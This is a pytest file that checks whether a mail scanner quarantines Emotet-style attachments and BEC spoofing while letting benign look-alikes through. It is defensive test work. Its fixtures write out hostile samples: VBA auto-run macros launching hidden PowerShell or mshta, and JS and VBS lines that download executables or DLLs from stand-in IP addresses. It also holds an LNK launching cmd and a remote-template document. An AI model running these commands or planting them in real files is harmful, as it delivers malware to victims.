"""Emotet-style techniques in variants the sample corpus does not contain, through the default scanner.

Built in code (real archives, real OLE/OOXML files): each variant must be quarantined with no
directory or thread knowledge, and each benign look-alike delivered.
"""

from __future__ import annotations

import pytest

from kakuri.model import Action, Direction, Envelope
from kakuri.wiring import build_scanner
from tests.builders import make_message
from tests.builders_archive import encrypted_zip, iso_of, onenote_with, seven_zip, tar_of, zip_of
from tests.builders_office import (
    docx, doc_with_vba, exe_stub, ole10native, plain_doc, rtf_with_object, xls_with_vba, xls_with_xlm, xlsx,
)

DROPPER = 'Sub AutoOpen()\n  Set s = CreateObject("WScript.Shell")\n  s.Run "powershell -w hidden -enc SQBFAFgA"\nEnd Sub\n'
WB_OPEN = 'Private Sub Workbook_Open()\n  Shell "cmd /c mshta http://203.0.113.9/a.hta", 0\nEnd Sub\n'
JS = b'var s=new ActiveXObject("WScript.Shell");s.Run("powershell -c iwr http://198.51.100.7/p.exe -o $env:TEMP\\\\p.exe");'
VBS = b'Set o = CreateObject("MSXML2.XMLHTTP")\r\no.Open "GET", "http://192.0.2.44/x.dll", False\r\n'
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 60 + b"C:\\Windows\\System32\\cmd.exe /c start x.js"


def _macro_doc() -> bytes:
    return doc_with_vba({"NewMacros": DROPPER})


MALICIOUS = {
    "doc_autoopen": lambda: ([("請求書_0912.doc", _macro_doc())], "請求書を送付いたします。"),
    "xls_workbook_open": lambda: ([("Invoice-2020-09.xls", xls_with_vba({"Module1": WB_OPEN}))], "Please find the invoice."),
    "docm_macro": lambda: ([("report.docm", docx(macro={"NewMacros": DROPPER}))], "See attached."),
    "macro_xlsx_renamed": lambda: ([("data.xlsx", xlsx(macro={"Module1": WB_OPEN}))], "Data attached."),
    "xlm_auto_open": lambda: ([("remittance.xls", xls_with_xlm([("EXEC", "cmd /c calc"), ("HALT", None)]))], "Remittance advice."),
    "doc_in_zip": lambda: ([("documents.zip", zip_of({"INV-771.doc": _macro_doc()}))], "添付をご確認ください。"),
    "doc_in_7z": lambda: ([("documents.7z", seven_zip({"INV-771.doc": _macro_doc()}))], "Attached."),
    "doc_in_zip_in_zip": lambda: ([("a.zip", zip_of({"b.zip": zip_of({"c.doc": _macro_doc()})}))], "Attached."),
    "encrypted_zip_ja_password": lambda: (
        [("見積書.zip", encrypted_zip({"見積書.doc": _macro_doc()}, "Kx82Lq"))],
        "お世話になっております。\n添付ファイルのパスワード：Kx82Lq\nよろしくお願いいたします。",
    ),
    "encrypted_zip_aes_en_password": lambda: (
        [("Invoice.zip", encrypted_zip({"Invoice.xls": xls_with_vba({"Module1": WB_OPEN})}, "7723", aes=True))],
        "Hello,\nThe archive password is 7723\nRegards",
    ),
    "encrypted_zip_password_next_line": lambda: (
        [("file.zip", encrypted_zip({"readme.js": JS}, "qwe-881"))],
        "解凍パスワード\nqwe-881\n",
    ),
    "encrypted_7z_with_script": lambda: ([("scan.7z", seven_zip({"scan.vbs": VBS}, password="z9z9"))], "PW: z9z9"),
    "zip_js": lambda: ([("Rechnung.zip", zip_of({"Rechnung_0921.js": JS}))], "Anbei die Rechnung."),
    "zip_vbs": lambda: ([("order.zip", zip_of({"order.vbs": VBS}))], "Order attached."),
    "zip_double_extension": lambda: ([("invoice.zip", zip_of({"invoice.pdf.exe": exe_stub()}))], "Invoice."),
    "zip_lnk": lambda: ([("photos.zip", zip_of({"photo.jpg.lnk": LNK}))], "photos"),
    "iso_lnk": lambda: ([("document.iso", iso_of({"DOCUMENT.LNK": LNK, "DATA.DLL": exe_stub()}))], "document"),
    "tar_gz_exe": lambda: ([("payment.tar.gz", tar_of({"payment.scr": exe_stub()}, compression="gz"))], "payment"),
    "onenote_exe": lambda: ([("notes.one", onenote_with([exe_stub()]))], "notes"),
    "rtf_package_exe": lambda: ([("form.rtf", rtf_with_object("Package", ole10native("form.exe", exe_stub(), with_size=False)))], "form"),
    "docx_remote_template": lambda: (
        [("contract.docx", docx(settings_rels=[("rId1", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", "http://198.51.100.3/tpl.dotm", True)]))],
        "Contract draft.",
    ),
    "eicar_plain": lambda: ([("eicar.com", EICAR)], "test"),
    "eicar_nested": lambda: ([("x.zip", zip_of({"y.zip": zip_of({"eicar.txt": EICAR})}))], "test"),
    "exe_attachment": lambda: ([("setup.exe", exe_stub())], "install this"),
    "encrypted_zip_thai_password": lambda: (
        [("ใบแจ้งหนี้.zip", encrypted_zip({"invoice.xls": xls_with_vba({"Module1": WB_OPEN})}, "Bkk4471"))],
        "เรียน ท่าน\nกรุณาตรวจสอบไฟล์แนบ\nรหัสผ่าน: Bkk4471\nขอบคุณครับ",
    ),
    "encrypted_zip_password_before_keyword": lambda: (
        [("scan.zip", encrypted_zip({"scan.js": JS}, "q7Lm2x"))], "Please use q7Lm2x as password to open the file.",
    ),
    "url_shortcut_to_hta": lambda: ([("invoice.url", b"[InternetShortcut]\r\nURL=https://cdn.some-host.test/upd/invoice.hta\r\n")], "invoice"),
    "hta_attachment": lambda: ([("update.hta", b"<html><hta:application/><script language=VBScript>CreateObject(\"WScript.Shell\").Run \"calc\"</script></html>")], "update"),
}

LINKS = {
    "ip_doc_link": "請求書は以下からダウンロードしてください。\nhttp://198.51.100.77/INVOICE/INV_88231.doc\n",
    "cms_zip_link": "Please download the statement:\nhttps://blog.some-bakery.test/wp-content/uploads/2020/09/Statement_0921.zip\n",
}

BENIGN = {
    "plain_doc": lambda: ([("議事録.doc", plain_doc())], "議事録を送付します。"),
    "plain_docx": lambda: ([("minutes.docx", docx())], "Minutes attached."),
    "xlsx_with_formula": lambda: ([("budget.xlsx", xlsx())], "Budget attached."),
    "zip_of_pdfs": lambda: ([("invoices.zip", zip_of({"a.pdf": b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "b.pdf": b"%PDF-1.4\n%%EOF\n"}))], "invoices"),
    "encrypted_zip_password_later": lambda: (
        [("図面.zip", encrypted_zip({"図面.pdf": b"%PDF-1.4\n%%EOF\n"}, "Ab3x9"))],
        "図面を送付いたします。\nパスワードは別メールにてお送りいたします。",
    ),
    "intranet_file_server_link": lambda: ([], "資料はこちらです。\nhttp://10.12.3.4/share/営業部/見積書.xlsx\nhttp://fileserver01/share/図面.zip\n"),
    "tar_of_csv": lambda: ([("export.tar.gz", tar_of({"export.csv": b"a,b\n1,2\n"}, compression="gz"))], "export"),
}


@pytest.fixture(scope="module")
def scanner(tmp_path_factory):
    from kakuri.settings import load_settings

    return build_scanner(load_settings(tmp_path_factory.mktemp("home")))


def _scan(scanner, attachments, body, html=None):
    raw = make_message(subject="RE: ご確認", from_="Tanaka <tanaka@unknown-sender.test>", body=body, html=html, attachments=attachments)
    return scanner.scan(raw, Envelope(mail_from="tanaka@unknown-sender.test", direction=Direction.INBOUND)).verdict


@pytest.mark.parametrize("name", sorted(MALICIOUS))
def test_malicious_variant_is_quarantined(scanner, name):
    attachments, body = MALICIOUS[name]()
    verdict = _scan(scanner, attachments, body)
    assert verdict.action in (Action.QUARANTINE, Action.REJECT), (name, verdict.score, verdict.symbols)


@pytest.mark.parametrize("name", sorted(LINKS))
def test_lure_link_variant_is_quarantined(scanner, name):
    verdict = _scan(scanner, [], LINKS[name])
    assert verdict.action in (Action.QUARANTINE, Action.REJECT), (name, verdict.score, verdict.symbols)


def test_html_lure_with_mismatched_anchor_is_quarantined(scanner):
    html = '<p>請求書をご確認ください。</p><a href="http://203.0.113.50:8080/files/Invoice_2209.zip">https://www.tokai-keiki.example/invoice</a>'
    verdict = _scan(scanner, [], "請求書をご確認ください。", html=html)
    assert verdict.action in (Action.QUARANTINE, Action.REJECT), (verdict.score, verdict.symbols)


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_lookalike_is_delivered(scanner, name):
    attachments, body = BENIGN[name]()
    verdict = _scan(scanner, attachments, body)
    assert verdict.action in (Action.DELIVER, Action.TAG), (name, verdict.score, verdict.symbols)


def test_macro_document_in_a_stored_zip_is_still_unpacked(scanner):
    """A stored (uncompressed) zip shows its member's bytes; the member's own [Content_Types].xml must not
    make the sniffer take the archive for the document."""
    verdict = _scan(scanner, [("report.zip", zip_of({"report.docm": docx(macro={"NewMacros": DROPPER})}, stored=True))], "report")
    assert verdict.action in (Action.QUARANTINE, Action.REJECT), (verdict.score, verdict.symbols)


# ----------------------------------------------------------------- with a directory (tests/knowledge_builders)

@pytest.fixture(scope="module")
def org_scanner(tmp_path_factory):
    from kakuri.settings import load_settings
    from tests.knowledge_builders import org_knowledge

    return build_scanner(load_settings(tmp_path_factory.mktemp("org-home")), knowledge=org_knowledge())


IDENTITY_MALICIOUS = {
    # BEC with a spoofed From of ours and the answer diverted to the colleague's name elsewhere.
    "reply_to_diverted": ("大川 誠 <makoto.okawa@kitaboshi.example>", {"Reply-To": "Makoto Okawa <okawa.m@freemail.test>"}, "今お時間ありますか？"),
    "lookalike_copying_mailbox": ("<megumi.sasaki@kitaboshi-jp.example>", {}, "振込先の変更をお願いします。"),
    "colleague_address_as_name": ('"sho.ueda@kb-trading.example" <ueda.office@freemail.test>', {}, "至急ご対応ください。"),
    "partner_name_extensionless_link": ("Koji Morita <info@hoshi-ryokan.test>", {}, "請求書: https://hoshi-ryokan.test/Invoice/q8z2k1/"),
}
IDENTITY_BENIGN = {
    "saas_share_for_a_colleague": ("Megumi Sasaki (via Google Drive) <drive-shares-dm-noreply@google.example>", {},
                                   "佐々木 恵さんがファイルを共有しました: https://drive.google.example/file/d/1x2y3z"),
    "partner_from_personal_mailbox_linking_its_company": ("森田 浩二 <kmorita.home@freemail.test>", {},
                                                          "出張中です。https://www.hoshizora-denki.example/news/"),
}


def _org_scan(org_scanner, from_, headers, body):
    raw = make_message(subject="ご確認", from_=from_, to="佐々木 恵 <megumi.sasaki@kitaboshi.example>", body=body, headers=headers)
    return org_scanner.scan(raw, Envelope(mail_from="bounce@mailer.test", direction=Direction.INBOUND)).verdict


@pytest.mark.parametrize("name", sorted(IDENTITY_MALICIOUS))
def test_identity_variant_is_quarantined(org_scanner, name):
    verdict = _org_scan(org_scanner, *IDENTITY_MALICIOUS[name])
    assert verdict.action in (Action.QUARANTINE, Action.REJECT), (name, verdict.score, verdict.symbols)


@pytest.mark.parametrize("name", sorted(IDENTITY_BENIGN))
def test_identity_lookalike_is_not_quarantined(org_scanner, name):
    verdict = _org_scan(org_scanner, *IDENTITY_BENIGN[name])
    assert verdict.action in (Action.DELIVER, Action.TAG), (name, verdict.score, verdict.symbols)
